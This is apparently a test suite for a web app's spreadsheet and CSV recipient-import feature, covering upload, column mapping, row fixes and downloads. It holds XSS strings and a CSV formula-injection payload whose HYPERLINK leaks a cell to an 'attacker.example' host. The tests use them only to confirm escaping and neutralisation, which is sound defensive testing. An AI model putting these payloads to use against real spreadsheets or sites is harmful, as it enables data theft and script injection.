import { test } from '@japa/runner'
import testUtils from '@adonisjs/core/services/test_utils'
import imports from '#config/imports'
import StoredFile from '#core/models/stored_file'
import FileImportJob from '#imports/models/file_import_job'
import OrganizationImportMapping from '#imports/models/organization_import_mapping'
import { actingAs, givenOrg } from '#tests/helpers/given'
import { auditRows, fieldErrorOf, flashOf } from '#tests/helpers/orgs'
import { givenImport, rowsOf, settled } from '#tests/helpers/imports'
import { fixture } from '#tests/helpers/templates'
import { NAME_AND_QR, givenTemplate } from '#tests/helpers/given_templates'
import { binary, bytesOf } from '#tests/helpers/binary'

function upload(
  client: any,
  bytes: Uint8Array,
  filename: string,
  fields: Record<string, string | string[]> = {}
) {
  let request = client.post('/imports').file('file', Buffer.from(bytes), { filename })
  for (const [name, value] of Object.entries(fields)) {
    for (const item of Array.isArray(value) ? value : [value])
      request = request.field(Array.isArray(value) ? `${name}[]` : name, item)
  }
  return request.withCsrfToken().redirects(0)
}

/** The import a POST /imports redirected to, once its read has finished. */
async function importOf(response: { header(name: string): string | undefined }) {
  const id = response.header('location')!.split('/').pop()!
  return settled(id)
}

test.group('Imports: upload and results (web)', (group) => {
  group.each.setup(() => testUtils.db().withGlobalTransaction())

  test("the upload form offers the org's templates with the fields each needs", async ({
    client,
    assert,
  }) => {
    const { org, owner } = await givenOrg()
    await givenTemplate(org, { name: 'Workshop <b>2026</b>', fields: NAME_AND_QR })
    const page = await actingAs(client.get('/imports/new'), owner, org)
    page.assertStatus(200)
    assert.include(page.text(), 'Workshop &lt;b&gt;2026&lt;/b&gt;')
    assert.include(page.text(), 'needs recipient name')
  })

  test('an uploaded CSV is stored, read and shown: counts, every error with its column, values escaped', async ({
    client,
    assert,
  }) => {
    const { org, owner } = await givenOrg()
    const response = await actingAs(
      upload(client, fixture('recipients/messy-excel-export.csv'), 'batch 14.csv'),
      owner,
      org
    )
    response.assertStatus(302)
    const job = await importOf(response)
    assert.match(response.header('location')!, new RegExp(`^/imports/${job.id}$`))
    assert.equal(job.status, 'ready')
    assert.equal(job.fileName, 'batch 14.csv')
    assert.equal(job.createdBy, owner.id)
    const original = await StoredFile.findOrFail(job.originalFileId)
    assert.equal(original.path, `file_imports/${org.id}/${job.id}/original.csv`)
    assert.equal(original.originalName, 'batch 14.csv')
    const [audit] = await auditRows(org, 'import.created')
    assert.equal(audit.entity_id, job.id)

    const page = await actingAs(client.get(`/imports/${job.id}`), owner, org)
    page.assertStatus(200)
    const html = page.text()
    assert.include(html, 'Needs fixes')
    assert.include(html, 'data-count="errors">4<')
    assert.include(html, 'Email Address (column B): “bad.email@” is not a valid email address.')
    assert.include(html, 'data-filter="errors"')
    // Errors first when there are any; the script-like name appears only on "all", escaped.
    assert.notInclude(html, 'Aarav')
    const all = await actingAs(client.get(`/imports/${job.id}?only=all`), owner, org)
    assert.include(all.text(), '&lt;script&gt;alert(1)&lt;/script&gt;')
    assert.notInclude(all.text(), '<script>alert(1)')
    assert.notInclude(all.text(), '<img src=x')
    assert.include(all.text(), 'अनन्या गुप्ता')

    const list = await actingAs(client.get('/imports'), owner, org)
    list.assertStatus(200)
    assert.include(list.text(), `data-import-id="${job.id}"`)
    assert.include(list.text(), 'batch 14.csv')
    assert.include(
      list.text(),
      '<span class="badge badge-warn" data-status="ready">Needs fixes</span>'
    )
  }).timeout(60_000)

  test('the upload form refuses a missing file and another type, and answers 413 naming the limit for an oversized file; nothing is stored', async ({
    client,
    assert,
  }) => {
    const { org, owner } = await givenOrg()
    const missing = await actingAs(
      client.post('/imports').field('sheet', '').withCsrfToken().redirects(0),
      owner,
      org
    )
    missing.assertHeader('location', '/imports/new')
    assert.match(fieldErrorOf(missing, 'file'), /Choose the CSV, TSV or Excel/)

    const pdf = await actingAs(
      upload(client, fixture('pdf/tracemonkey.pdf'), 'recipients.csv'),
      owner,
      org
    )
    pdf.assertHeader('location', '/imports/new')
    assert.match(
      fieldErrorOf(pdf, 'file'),
      /This is a PDF file; upload a CSV, TSV or text export, or an Excel \.xlsx workbook/
    )

    const previous = imports.maxBytes
    imports.maxBytes = 1024
    try {
      const big = await actingAs(
        upload(client, fixture('recipients/rows-5000.csv'), 'big.csv'),
        owner,
        org
      )
      big.assertStatus(413)
      assert.include(
        big.text(),
        '<p class="field-error" id="file-error" role="alert">The file is larger than 1 KB, the most a recipient list may be. Split it into several files.</p>'
      )
      assert.include(
        big.text(),
        'id="import-upload-form"',
        'the form comes back to choose another file'
      )
    } finally {
      imports.maxBytes = previous
    }
    assert.lengthOf(await FileImportJob.query().where('organization_id', org.id), 0)
    assert.lengthOf(await StoredFile.query().where('organization_id', org.id), 0)
  }).timeout(60_000)

  test('a file that cannot become rows ends failed with the reason on its page, the file kept for another try', async ({
    client,
    assert,
  }) => {
    const { org, owner } = await givenOrg()
    const response = await actingAs(
      upload(client, fixture('xlsx/invalid-xml.xlsx'), 'invalid.xlsx'),
      owner,
      org
    )
    const job = await importOf(response)
    assert.equal(job.status, 'failed')
    assert.equal(job.failureCode, 'E_WORKBOOK_INVALID')
    const page = await actingAs(client.get(`/imports/${job.id}`), owner, org)
    assert.include(page.text(), 'This file could not be imported.')
    assert.include(page.text(), 'This Excel file cannot be read')
    assert.include(page.text(), 'id="layout-form"', 'sheet and header row can be chosen again')
    assert.notInclude(page.text(), 'hx-trigger', 'a finished import does not poll')
  }).timeout(60_000)

  test('a name no bundled font can print is an error on its row, named on the results page; the other scripts pass', async ({
    client,
    assert,
  }) => {
    const { org, owner } = await givenOrg()
    const csv =
      'Name,Email\nAsha Rao,asha@example.in\nअनन्या गुप्ता,ananya@example.in\nአበበ ቢቂላ,abebe@example.in\nꯃꯤꯇꯩ ꯂꯩꯁꯥꯡ,meetei@example.in\nمحمد عمران,imran@example.in\n'
    const job = await givenImport(org, {
      bytes: new TextEncoder().encode(csv),
      name: 'scripts.csv',
    })
    assert.equal(job.errorRows, 1)
    assert.equal(job.validRows, 4)
    const rows = await rowsOf(job)
    assert.deepEqual(
      rows.map((row) => [row.rowIndex, row.errors.map((e) => e.code)]),
      [
        [2, []],
        [3, []],
        [4, ['E_NO_FONT']],
        [5, []],
        [6, []],
      ]
    )
    const page = await actingAs(client.get(`/imports/${job.id}?filter=errors`), owner, org)
    assert.include(
      page.text(),
      'Name (column A): “አበበ ቢቂላ” has characters no font of ours can print: “አ” (U+12A0)'
    )
  })

  test('the results island polls while the file is read, then stops and refreshes the page', async ({
    client,
    assert,
  }) => {
    const { org, owner } = await givenOrg()
    const job = await givenImport(org, 'recipients/semicolon.csv')
    await FileImportJob.query()
      .where('id', job.id)
      .update({ status: 'processing', rows_read: 4000, read_percent: 37 })

    const page = await actingAs(client.get(`/imports/${job.id}`), owner, org)
    assert.include(
      page.text(),
      `hx-get="/imports/${job.id}/results?polling=1" hx-trigger="load delay:1s"`
    )
    assert.include(page.text(), '<progress max="100" value="37"')
    assert.include(page.text(), '4,000 rows read so far (37%)')
    assert.notInclude(page.text(), 'id="mapping-form"', 'no mapping while the file is read')

    const polling = await actingAs(
      client.get(`/imports/${job.id}/results?polling=1`).header('HX-Request', 'true'),
      owner,
      org
    )
    polling.assertStatus(200)
    assert.include(polling.text(), 'hx-trigger="load delay:1s"')
    assert.isUndefined(polling.header('hx-refresh'))
    assert.notInclude(polling.text(), '<html', 'the island alone')

    await FileImportJob.query().where('id', job.id).update({ status: 'ready' })
    const done = await actingAs(
      client.get(`/imports/${job.id}/results?polling=1`).header('HX-Request', 'true'),
      owner,
      org
    )
    done.assertHeader('hx-refresh', 'true')
    assert.notInclude(done.text(), 'hx-trigger')
    assert.include(done.text(), 'data-count="total">10<')
  }).timeout(60_000)
})

test.group('Imports: mapping and re-reading (web)', (group) => {
  group.each.setup(() => testUtils.db().withGlobalTransaction())

  test('a list for templates is checked for the fields they require, their own keys mapped by name', async ({
    client,
    assert,
  }) => {
    const { org, owner } = await givenOrg()
    const { template } = await givenTemplate(org, {
      fields: [
        ...NAME_AND_QR,
        {
          key: 'course_name',
          type: 'text',
          x: 120,
          y: 320,
          width: 600,
          height: 30,
          required: true,
        },
        { key: 'batch_code', type: 'text', x: 120, y: 360, width: 200, height: 20, required: true },
        { key: 'mentor', type: 'text', x: 120, y: 400, width: 200, height: 20 },
      ],
    })
    const csv =
      'Name,Course,Batch Code,Mentor\nAsha,Data Science,B-14,Dr. Rao\nRavi,,B-14,\nSita,Data Science,,\n'
    const response = await actingAs(
      upload(client, new Uint8Array(Buffer.from(csv)), 'batch.csv', {
        template_ids: [template.id],
      }),
      owner,
      org
    )
    const job = await importOf(response)
    assert.deepEqual(job.templateIds, [template.id])
    assert.deepEqual(job.mapping, {
      recipient_name: 'Name',
      course_name: 'Course',
      batch_code: 'Batch Code',
      mentor: 'Mentor',
    })
    const rows = await rowsOf(job)
    assert.deepEqual(
      rows.map((row) => row.errors.map((e) => `${e.code} ${e.field}`)),
      [[], ['E_REQUIRED course_name'], ['E_REQUIRED batch_code']]
    )
    assert.equal(
      rows[2].errors[0].message,
      'Batch Code (column C): Batch code is required and this row has none.'
    )
    assert.deepEqual(rows[0].data, {
      recipient_name: 'Asha',
      course_name: 'Data Science',
      batch_code: 'B-14',
      mentor: 'Dr. Rao',
    })

    const page = await actingAs(client.get(`/imports/${job.id}`), owner, org)
    assert.include(page.text(), 'id="mapping-batch_code"', 'the template’s own keys can be mapped')
    assert.include(page.text(), 'Batch code <span class="required-mark">required</span>')

    const archived = await givenTemplate(org, { status: 'archived' })
    const refused = await actingAs(
      upload(client, new Uint8Array(Buffer.from(csv)), 'batch.csv', {
        template_ids: [archived.template.id],
      }),
      owner,
      org
    )
    refused.assertHeader('location', '/imports/new')
    assert.equal(
      fieldErrorOf(refused, 'template_ids'),
      'One of the chosen templates does not exist or is archived.'
    )
  }).timeout(60_000)

  test('changing the mapping re-checks every stored row without a new upload, and is suggested for the next file with those headers', async ({
    client,
    assert,
  }) => {
    const { org, owner } = await givenOrg()
    const job = await givenImport(org, 'recipients/messy-excel-export.csv')
    const filesBefore = await StoredFile.query().where('organization_id', org.id)
    const mapping = { ...job.mapping, recipient_email: '', grade: '' }
    let request = client.put(`/imports/${job.id}/mapping`)
    for (const [key, column] of Object.entries(mapping))
      request = request.field(`mapping[${key}]`, column)
    const response = await actingAs(request.withCsrfToken().redirects(0), owner, org)
    response.assertHeader('location', `/imports/${job.id}`)
    assert.match(
      flashOf(response, 'success'),
      /^Mapping saved and every row checked again: 15 ready, 3 with errors\./
    )

    const remapped = await FileImportJob.findOrFail(job.id)
    assert.notProperty(remapped.mapping, 'recipient_email')
    assert.notProperty(remapped.mapping, 'grade')
    assert.deepEqual(
      [remapped.totalRows, remapped.validRows, remapped.errorRows],
      [18, 15, 3],
      'the bad email is no longer read'
    )
    const rows = await rowsOf(remapped)
    assert.isTrue(rows.every((row) => !('recipient_email' in row.data) && !('grade' in row.data)))
    const filesAfter = await StoredFile.query().where('organization_id', org.id)
    assert.deepEqual(
      filesAfter.map((f) => f.id),
      filesBefore.map((f) => f.id),
      'nothing uploaded again'
    )
    const [audit] = await auditRows(org, 'import.remapped')
    assert.equal(audit.entity_id, job.id)

    assert.lengthOf(await OrganizationImportMapping.query().where('organization_id', org.id), 1)
    const next = await givenImport(org, 'recipients/messy-excel-export.csv')
    assert.deepEqual(next.mapping, remapped.mapping, 'the remembered mapping, not the suggestion')
    const { org: otherOrg } = await givenOrg()
    const other = await givenImport(otherOrg, 'recipients/messy-excel-export.csv')
    assert.equal(
      other.mapping.recipient_email,
      'Email Address',
      'another org still gets the suggestion'
    )
  }).timeout(60_000)

  test('a mapping naming a column the file lacks, or one column for two keys, is refused with the reason, rows untouched', async ({
    client,
    assert,
  }) => {
    const { org, owner } = await givenOrg()
    const job = await givenImport(org, 'recipients/messy-excel-export.csv')
    const response = await actingAs(
      client
        .put(`/imports/${job.id}/mapping`)
        .field('mapping[recipient_name]', 'No Such Column')
        .withCsrfToken()
        .redirects(0),
      owner,
      org
    )
    response.assertHeader('location', `/imports/${job.id}`)
    assert.match(
      flashOf(response, 'error'),
      /^The file has no column “No Such Column” \(its columns: “Full Name”, “Email Address”/
    )
    const twice = await actingAs(
      client
        .put(`/imports/${job.id}/mapping`)
        .field('mapping[recipient_name]', 'Full Name')
        .field('mapping[course_name]', 'Full Name')
        .withCsrfToken()
        .redirects(0),
      owner,
      org
    )
    assert.equal(
      flashOf(twice, 'error'),
      'The column “Full Name” is mapped to both recipient_name and course_name; a column feeds one key.'
    )
    const after = await FileImportJob.findOrFail(job.id)
    assert.deepEqual(after.mapping, job.mapping)
    assert.deepEqual([after.validRows, after.errorRows], [job.validRows, job.errorRows])
  }).timeout(60_000)

  test('another header row or sheet reads the stored file again; a header row past the end fails and keeps the rows', async ({
    client,
    assert,
  }) => {
    const { org, owner } = await givenOrg()
    const job = await givenImport(org, 'recipients/excel-dates-title-row.xlsx')
    assert.isTrue(job.summary.header_detected)
    const headerRow = job.headerRow!
    const initialRows = await rowsOf(job)
    const rowsBefore = initialRows.map((row) => row.rowIndex)

    const beyond = await actingAs(
      client
        .put(`/imports/${job.id}/mapping`)
        .field('header_row', '900')
        .withCsrfToken()
        .redirects(0),
      owner,
      org
    )
    beyond.assertHeader('location', `/imports/${job.id}`)
    const failed = await settled(job.id)
    assert.equal(failed.status, 'failed')
    assert.equal(failed.failureCode, 'E_HEADER_ROW')
    assert.match(failed.failureMessage!, /There is no row 900/)
    const failedRows = await rowsOf(failed)
    assert.deepEqual(
      failedRows.map((row) => row.rowIndex),
      rowsBefore,
      'the rows read before are kept'
    )

    const again = await actingAs(
      client
        .put(`/imports/${job.id}/mapping`)
        .field('header_row', String(headerRow))
        .withCsrfToken()
        .redirects(0),
      owner,
      org
    )
    again.assertHeader('location', `/imports/${job.id}`)
    const ready = await settled(job.id)
    assert.equal(ready.status, 'ready', ready.failureMessage ?? '')
    assert.equal(ready.headerRow, headerRow)
    const readyRows = await rowsOf(ready)
    assert.deepEqual(
      readyRows.map((row) => row.rowIndex),
      rowsBefore
    )
  }).timeout(60_000)
})

test.group('Imports: fixing, removing and adding rows (web)', (group) => {
  group.each.setup(() => testUtils.db().withGlobalTransaction())

  test('a bad row is fixed in place: checked again, counts updated; a still-bad value says why', async ({
    client,
    assert,
  }) => {
    const { org, owner } = await givenOrg()
    const job = await givenImport(org, 'recipients/messy-excel-export.csv')
    const rowsBefore = await rowsOf(job)
    const row = rowsBefore.find((r) => r.rowIndex === 12)!
    const emailColumn = job.columns.indexOf('Email Address')

    const stillBad = await actingAs(
      client
        .put(`/imports/${job.id}/rows/${row.id}`)
        .field(`cells[c${emailColumn}]`, 'still@bad')
        .field('only', 'errors')
        .withCsrfToken()
        .redirects(0),
      owner,
      org
    )
    stillBad.assertHeader('location', `/imports/${job.id}?only=errors`)
    assert.match(
      flashOf(stillBad, 'error'),
      /^Row 12 still has a problem: Email Address \(column B\): “still@bad” is not a valid email address\.$/
    )

    const fixed = await actingAs(
      client
        .put(`/imports/${job.id}/rows/${row.id}`)
        .field(`cells[c${emailColumn}]`, '  Priya.Fixed@Example.IN ')
        .withCsrfToken()
        .redirects(0),
      owner,
      org
    )
    assert.equal(flashOf(fixed, 'success'), 'Row 12 fixed.')
    const after = await FileImportJob.findOrFail(job.id)
    assert.deepEqual([after.validRows, after.errorRows], [job.validRows + 1, job.errorRows - 1])
    const rowsAfter = await rowsOf(after)
    const updated = rowsAfter.find((r) => r.rowIndex === 12)!
    assert.equal(updated.data.recipient_email, 'priya.fixed@example.in')
    assert.equal(updated.raw[emailColumn], '  Priya.Fixed@Example.IN ', 'the cell as typed')
    assert.deepEqual(
      updated.raw.filter((_, i) => i !== emailColumn),
      row.raw.filter((_, i) => i !== emailColumn),
      'other cells untouched'
    )
    assert.lengthOf(await auditRows(org, 'import.row_updated'), 2)
  }).timeout(60_000)

  test('rows are removed one at a time, or all duplicates, or all rows with errors', async ({
    client,
    assert,
  }) => {
    const { org, owner } = await givenOrg()
    const job = await givenImport(org, 'recipients/messy-excel-export.csv')
    const rows = await rowsOf(job)
    const first = rows[0]

    const one = await actingAs(
      client.delete(`/imports/${job.id}/rows/${first.id}`).withCsrfToken().redirects(0),
      owner,
      org
    )
    assert.equal(flashOf(one, 'success'), 'Row removed.')
    const afterOne = await FileImportJob.findOrFail(job.id)
    assert.equal(afterOne.totalRows, 17)

    // Row 18 duplicated row 2; with row 2 gone it is the original now.
    const remaining = await rowsOf(job)
    assert.isFalse(
      remaining.find((r) => r.rowIndex === 18)!.warnings.some((w) => w.code === 'W_DUPLICATE')
    )

    const errors = await actingAs(
      client
        .post(`/imports/${job.id}/row-cleanups`)
        .field('which', 'errors')
        .withCsrfToken()
        .redirects(0),
      owner,
      org
    )
    assert.equal(flashOf(errors, 'success'), '4 invalid rows removed.')
    const after = await FileImportJob.findOrFail(job.id)
    assert.deepEqual([after.totalRows, after.validRows, after.errorRows], [13, 13, 0])
    const deletions = await auditRows(org, 'import.rows_deleted')
    assert.equal(deletions.length, 2)
  }).timeout(60_000)

  test('duplicates are flagged against the first row and can be dropped at once', async ({
    client,
    assert,
  }) => {
    const { org, owner } = await givenOrg()
    const job = await givenImport(org, 'recipients/messy-excel-export.csv')
    const response = await actingAs(
      client
        .post(`/imports/${job.id}/row-cleanups`)
        .field('which', 'duplicates')
        .withCsrfToken()
        .redirects(0),
      owner,
      org
    )
    assert.equal(flashOf(response, 'success'), '1 duplicate row removed.')
    const rows = await rowsOf(job)
    assert.isUndefined(rows.find((r) => r.rowIndex === 18))
    assert.isDefined(
      rows.find((r) => r.rowIndex === 2),
      'the first of the pair stays'
    )
  }).timeout(60_000)

  test('manual entry is an import too: a list started by hand, one recipient typed, rows pasted with and without headers', async ({
    client,
    assert,
  }) => {
    const { org, owner } = await givenOrg()
    const start = await actingAs(
      client
        .post('/imports')
        .field('source', 'manual')
        .field('name', 'Walk-in batch')
        .withCsrfToken()
        .redirects(0),
      owner,
      org
    )
    const id = start.header('location')!.split('/').pop()!
    const job = await FileImportJob.findOrFail(id)
    assert.deepEqual(
      [job.source, job.status, job.fileName, job.format],
      ['manual', 'ready', 'Walk-in batch', 'manual']
    )
    assert.match(flashOf(start, 'success'), /type them in, or paste rows/)

    const page = await actingAs(client.get(`/imports/${id}`), owner, org)
    assert.include(page.text(), 'id="add-row-form"')
    assert.notInclude(page.text(), 'id="mapping-form"', 'typed lists have nothing to map')

    const name = job.columns.indexOf('Recipient name')
    const email = job.columns.indexOf('Email')
    const typed = await actingAs(
      client
        .post(`/imports/${id}/rows`)
        .field(`cells[c${name}]`, '  Meera   Nair ')
        .field(`cells[c${email}]`, 'MEERA@example.in')
        .withCsrfToken()
        .redirects(0),
      owner,
      org
    )
    assert.equal(flashOf(typed, 'success'), '1 recipient added.')

    const pasted =
      'Full Name\tEmail Address\tMobile No.\nRavi Kumar\travi@example.in\t98765 43210\nBad Mail\tbad@\t\n'
    const withHeaders = await actingAs(
      client.post(`/imports/${id}/rows`).field('pasted', pasted).withCsrfToken().redirects(0),
      owner,
      org
    )
    assert.equal(
      flashOf(withHeaders, 'error'),
      '2 recipients added; 1 needs fixing (see the errors below).'
    )

    const withoutHeaders = await actingAs(
      client
        .post(`/imports/${id}/rows`)
        .field('pasted', 'Sita Rao\tsita@example.in\n')
        .withCsrfToken()
        .redirects(0),
      owner,
      org
    )
    assert.equal(flashOf(withoutHeaders, 'success'), '1 recipient added.')

    const empty = await actingAs(
      client.post(`/imports/${id}/rows`).field('pasted', '  \n ').withCsrfToken().redirects(0),
      owner,
      org
    )
    assert.match(flashOf(empty, 'error'), /^Nothing to add/)

    const rows = await rowsOf(job)
    assert.deepEqual(
      rows.map((row) => [
        row.rowIndex,
        row.data.recipient_name,
        row.data.recipient_email ?? null,
        row.data.recipient_phone ?? null,
        row.errors.map((e) => e.code),
      ]),
      [
        [1, 'Meera Nair', 'meera@example.in', null, []],
        [2, 'Ravi Kumar', 'ravi@example.in', '+919876543210', []],
        [3, 'Bad Mail', null, null, ['E_EMAIL_INVALID']],
        [4, 'Sita Rao', 'sita@example.in', null, []],
      ]
    )
    const after = await FileImportJob.findOrFail(id)
    assert.deepEqual([after.totalRows, after.validRows, after.errorRows], [4, 3, 1])
  }).timeout(60_000)
})

test.group('Imports: downloads (web)', (group) => {
  group.each.setup(() => testUtils.db().withGlobalTransaction())

  test('errors.csv holds the rows to fix with their reasons, formula-safe, with a BOM for Excel', async ({
    client,
    assert,
  }) => {
    const { org, owner } = await givenOrg()
    const job = await givenImport(org, 'recipients/messy-excel-export.csv')
    // Make the formula rows errors too, so they are in the report.
    const rows = await rowsOf(job)
    const formulaRow = rows.find((row) => row.rowIndex === 15)!
    const email = job.columns.indexOf('Email Address')
    await actingAs(
      client
        .put(`/imports/${job.id}/rows/${formulaRow.id}`)
        .field(`cells[c${email}]`, '=1+1')
        .withCsrfToken()
        .redirects(0),
      owner,
      org
    )

    const response = await actingAs(
      binary(client.get(`/imports/${job.id}/files/errors.csv`)),
      owner,
      org
    )
    response.assertStatus(200)
    response.assertHeader('content-type', 'text/csv; charset=utf-8')
    response.assertHeader('x-content-type-options', 'nosniff')
    assert.equal(
      response.header('content-disposition'),
      `attachment; filename="messy-excel-export-errors.csv"; filename*=UTF-8''messy-excel-export-errors.csv`
    )
    const text = Buffer.from(bytesOf(response)).toString('utf8')
    assert.isTrue(text.startsWith('\uFEFF'), 'BOM')
    const lines = text.slice(1).trim().split('\r\n')
    assert.equal(
      lines[0],
      'Row,Full Name,Email Address,Mobile No.,Course Name,Date of Completion,Grade,Column G,Errors,Warnings'
    )
    assert.deepEqual(
      lines.slice(1).map((line) => line.split(',')[0]),
      ['12', '13', '14', '15', '19']
    )
    const row15 = lines.find((line) => line.startsWith('15,'))!
    assert.include(
      row15,
      `"'=HYPERLINK(""http://attacker.example/?x=""&A1,""Click"")"`,
      'the formula is neutralised'
    )
    assert.include(row15, `'=1+1`)
    assert.include(
      lines.find((line) => line.startsWith('12,'))!,
      'is not a valid email address.'
    )
  }).timeout(60_000)

  test('the original file downloads byte for byte under its name', async ({ client, assert }) => {
    const { org, owner } = await givenOrg()
    const job = await givenImport(org, 'recipients/windows-1252.csv')
    const response = await actingAs(
      binary(client.get(`/imports/${job.id}/files/original`)),
      owner,
      org
    )
    response.assertStatus(200)
    assert.deepEqual(
      Buffer.from(bytesOf(response)),
      Buffer.from(fixture('recipients/windows-1252.csv'))
    )
    assert.match(
      response.header('content-disposition')!,
      /^attachment; filename="windows-1252\.csv"/
    )
    const unknown = await actingAs(client.get(`/imports/${job.id}/files/other.csv`), owner, org)
    unknown.assertStatus(404)
  }).timeout(60_000)
})
